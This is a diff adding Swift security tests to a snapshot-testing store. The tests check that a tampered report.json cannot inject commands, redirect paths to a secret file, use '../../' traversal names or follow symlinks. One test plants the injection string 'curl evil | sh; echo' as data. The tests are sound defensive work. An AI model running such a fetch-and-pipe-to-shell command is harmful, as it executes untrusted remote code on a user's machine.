@@ -624,4 +624,94 @@ struct SnapshotStoreTests {
       }
     }
   }
+
+  // MARK: Results from elsewhere
+
+  /// Results whose report says what is to be put in the place of what it says.
+  private func foreignResults(_ change: (String) -> String) throws {
+    _ = try store.record([snapshot("a"), snapshot("b")], run: run())
+    _ = try store.verify([snapshot("a", 9), snapshot("b")], run: run(), results: results)
+    let url = URL(fileURLWithPath: results + "/report.json")
+    let text = try String(contentsOf: url, encoding: .utf8)
+    let changed = change(text)
+    #expect(changed != text)
+    try changed.write(to: url, atomically: true, encoding: .utf8)
+  }
+
+  @Test func `commands are made of names and never read`() throws {
+    try foreignResults { $0.replacing("fittingroom snapshot approve", with: "curl evil | sh; echo") }
+    for references in [store.folder, nil] {
+      let entries = try RunPart.read(results, references: references).flatMap(\.entries)
+      #expect(entries.map(\.name).sorted() == ["a", "b"])
+      let commands = entries.compactMap(\.acceptCommand)
+      #expect(
+        commands == (references == nil ? [] : ["fittingroom snapshot approve '\(store.folder)' '\(results)' 'a'"]))
+    }
+  }
+
+  @Test func `paths in a report lead nowhere`() throws {
+    let secret = folder.path + "/secret.png"
+    try PNGEncoder.write(picture(77), to: secret)
+    try foreignResults { text in
+      ["actual", "reference", "difference"].reduce(text) { text, kind in
+        text.replacing(try! Regex("\"\(kind)\": ?\"[^\"]*\""), with: "\"\(kind)\": \"\(secret)\"")
+      }
+    }
+    for references in [store.folder, nil] {
+      let entries = try RunPart.read(results, references: references).flatMap(\.entries)
+      for path in entries.flatMap({ [$0.actual, $0.reference, $0.difference] }).compactMap(\.self) {
+        #expect(path.hasPrefix(results + "/") || path.hasPrefix(store.folder + "/"), "\(path)")
+      }
+    }
+    // And no folder of references is guessed from it.
+    #expect(try RunPart.references(of: [results]) == nil)
+  }
+
+  @Test func `names in a report stay below the folders`() throws {
+    try foreignResults { $0.replacing("\"a\"", with: "\"../../secret\"") }
+    #expect(throws: SnapshotError("../../secret is not a name below the folder of references")) {
+      try RunPart.read(results)
+    }
+  }
+
+  @Test(arguments: ["actual/a.png", "actual", "report.json", "snapshots.json"])
+  func `links among the results are refused`(_ linked: String) throws {
+    try foreignResults { $0 + " " }
+    let moved = folder.path + "/moved"
+    try FileManager.default.moveItem(atPath: results + "/" + linked, toPath: moved)
+    try FileManager.default.createSymbolicLink(atPath: results + "/" + linked, withDestinationPath: moved)
+    for body in [{ _ = try RunPart.read(results) }, { _ = try store.approve(["a"], results: results) }] {
+      let error = #expect(throws: SnapshotError.self) { try body() }
+      #expect(error?.description.contains("link") == true)
+    }
+    #expect(pixels("a") == picture(200))
+  }
+
+  // MARK: Nothing lost
+
+  @Test func `names are bytes`() throws {
+    let names = ["caf\u{E9}", "cafe\u{301}"]
+    #expect(try store.record(names.map { snapshot($0) }, run: run()).written.count == 2)
+    #expect(try SnapshotManifest.read(in: store.folder)?.entries.count == 2)
+    let report = try store.verify([snapshot(names[0]), snapshot(names[1], 9)], run: run(), results: results)
+    #expect(report.entries.map(\.verdict) == [.different, .identical])
+    #expect(report.entries.map { Array($0.name.utf8).count } == [6, 5])
+    let approved = try store.approve([names[1]], results: results).written
+    #expect(approved.map { Array($0.utf8).count } == [6])
+    #expect(try SnapshotStore.merge(RunPart.read(results)).entries.count == 2)
+  }
+
+  @Test func `approvals at once lose nothing`() throws {
+    let names = (0..<24).map { "picture \($0)" }
+    _ = try store.record(names.map { snapshot($0) }, run: run())
+    _ = try store.verify(names.map { snapshot($0, 9) }, run: run(), results: results)
+    let store = store
+    let results = results
+    DispatchQueue.concurrentPerform(iterations: names.count) { index in
+      _ = try? store.approve([names[index]], results: results)
+    }
+    let manifest = try #require(try SnapshotManifest.read(in: store.folder))
+    #expect(manifest.entries.count == names.count)
+    for entry in manifest.entries { #expect(entry.pixels == manifest.entries[0].pixels && pixels(entry.name) == picture(9)) }
+  }
 }
